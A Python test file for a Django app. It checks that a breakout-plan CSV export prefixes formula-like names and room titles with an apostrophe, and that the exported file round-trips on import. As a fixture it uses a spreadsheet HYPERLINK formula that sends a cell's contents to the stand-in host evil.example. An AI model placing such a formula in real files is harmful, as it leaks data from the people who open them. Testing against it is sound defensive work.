"""The breakout plan CSV: names a spreadsheet would run as formulas are exported as text, and
the exported file imports back to the same plan (through the real download/upload view)."""
from __future__ import annotations

import csv
import io
import json

from django.contrib.auth import get_user_model

from convenings.csv_cells import FORMULA_START
from tests.rooms.breakouts.factories import PARENT, breakout_session, signed_in
from tests.signaling.consumers.factories import SmallConvening

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
# Spreadsheet-formula starts in people's names; the tab and CR ones have no first or last
# name, so the plan shows their username (a full name is stripped of such whitespace).
NAMES = {"maria": {"first_name": HYPERLINK, "last_name": ""},
         "james": {"first_name": "+James", "last_name": "Nguyen"},
         "olivia": {"first_name": "-Olivia", "last_name": "Marsh"},
         "jordan": {"first_name": "@Jordan", "last_name": "Lee"},
         "aisha": {"first_name": "", "last_name": "", "username": "\tAisha"},
         "angela": {"first_name": "", "last_name": "", "username": "\rAngela"}}
ROOMS = ["=SUM(A1:A9)", "+Plus", "-Minus", "@At"]


def _rooms(answer: bytes) -> list[tuple[str, list[int]]]:
    return [(r["name"], sorted(r["members"])) for r in json.loads(answer)["rooms"]]


def test_exported_names_are_text_and_the_file_imports_back_unchanged(small: SmallConvening) -> None:
    session = breakout_session(small)
    for who, fields in NAMES.items():
        get_user_model().objects.filter(pk=small[who].participant.user_id).update(**fields)
    url = f"/c/{small.convening.slug}/sessions/{session.id}/breakouts.csv"
    moderator = signed_in(small, "jordan")
    pid = small.pid
    planned = ("room,topic,participant id,participant name\n"
               f'"{ROOMS[0]}",{session.topics[PARENT].pk},{pid("maria")},\n'
               f'"{ROOMS[0]}",{session.topics[PARENT].pk},{pid("james")},\n'
               f"{ROOMS[1]},,{pid('aisha')},\n{ROOMS[1]},,{pid('angela')},\n"
               f"{ROOMS[2]},,{pid('olivia')},\n{ROOMS[3]},,{pid('jordan')},\n")
    first = moderator.post(url, data=planned, content_type="text/csv")
    assert first.status_code == 200, first.content
    assert [name for name, _ in _rooms(first.content)] == ROOMS

    exported = moderator.get(url).content.decode()
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_START)] == []
    assert [row[3] for row in rows[1:]] == [
        "'" + HYPERLINK, "'+James Nguyen", "'\tAisha", "'\rAngela", "'-Olivia Marsh", "'@Jordan Lee"]
    assert [row[0] for row in rows[1:]] == ["'" + ROOMS[0]] * 2 + ["'" + ROOMS[1]] * 2 + ["'" + ROOMS[2], "'" + ROOMS[3]]

    again = moderator.post(url, data=exported, content_type="text/csv")
    assert again.status_code == 200, again.content
    assert _rooms(again.content) == _rooms(first.content)  # same rooms, same names, same people
    assert moderator.get(url).content.decode() == exported
